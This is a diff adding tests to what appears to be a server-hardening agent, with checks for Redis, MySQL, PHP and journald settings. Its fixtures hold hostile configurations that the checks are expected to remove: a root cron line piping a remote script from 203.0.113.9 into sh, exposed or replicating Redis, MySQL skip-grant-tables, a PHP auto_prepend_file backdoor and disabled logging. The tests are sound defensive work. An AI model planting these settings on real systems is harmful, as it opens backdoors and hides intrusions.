@@ -11,8 +11,12 @@ import { rememberFindings, seenFindings } from '../src/agent/seen-findings.ts';
 import { accountFiles } from '../src/checks/account-files/check.ts';
 import { cron } from '../src/checks/cron/check.ts';
 import { kernelHelpers } from '../src/checks/kernel-helpers/check.ts';
+import { logging } from '../src/checks/logging/check.ts';
+import { mysql } from '../src/checks/mysql/check.ts';
 import { packageFiles } from '../src/checks/package-files/check.ts';
+import { redis } from '../src/checks/redis/check.ts';
 import { sshd } from '../src/checks/sshd/check.ts';
+import { webSettings } from '../src/checks/web-settings/check.ts';
 import type { Check } from '../src/checks/port.ts';
 import type { Action } from '../src/core/action.ts';
 import { openResponse } from './actions.ts';
@@ -76,6 +80,26 @@ describe.skipIf(lacks({ root: true, files: ['/usr/sbin/sshd', '/usr/bin/dpkg-deb
 
   it('a line of cron', async () => {
     expect(await fixed(cron, '/etc/crontab', (put) => { put('etc/crontab', 'SHELL=/bin/sh\n* * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n'); })).toEqual(['remove-line']);
+  });
+
+  it.skipIf(lacks({ files: ['/usr/bin/redis-server'] }))('Redis that anybody may use', async () => {
+    expect(await fixed(redis, '/etc/redis/redis.conf', (put) => { put('etc/redis/redis.conf', 'bind 0.0.0.0\nprotected-mode no\ndir /var/lib/redis\n', 0o640); put('var/lib/redis/x', ''); })).toEqual(['change-setting', 'change-setting']);
+  });
+
+  it('Redis that copies from a stranger', async () => {
+    expect(await fixed(redis, '/etc/redis/redis.conf', (put) => { put('etc/redis/redis.conf', 'bind 127.0.0.1\nreplicaof 203.0.113.9 6379\n', 0o640); })).toEqual(['remove-line']);
+  });
+
+  it('a database that asks no password, by its line', async () => {
+    expect(await fixed(mysql, '/etc/mysql/my.cnf', (put) => { put('etc/mysql/my.cnf', '[mysqld]\nskip-grant-tables\nbind-address = 127.0.0.1\n'); })).toEqual(['remove-line']);
+  });
+
+  it('a page that runs in every other of PHP', async () => {
+    expect(await fixed(webSettings, '/etc/php/8.2/fpm/php.ini', (put) => { put('etc/php/8.2/fpm/php.ini', '[PHP]\nauto_prepend_file = /dev/shm/.x.jpg\n'); })).toEqual(['remove-line']);
+  });
+
+  it('a journal that keeps nothing', async () => {
+    expect(await fixed(logging, '/etc/systemd/journald.conf', (put) => { put('etc/systemd/journald.conf', '[Journal]\nStorage=none\n'); })).toEqual(['remove-line']);
   });
 
   it('a switch of the kernel in a file', async () => {
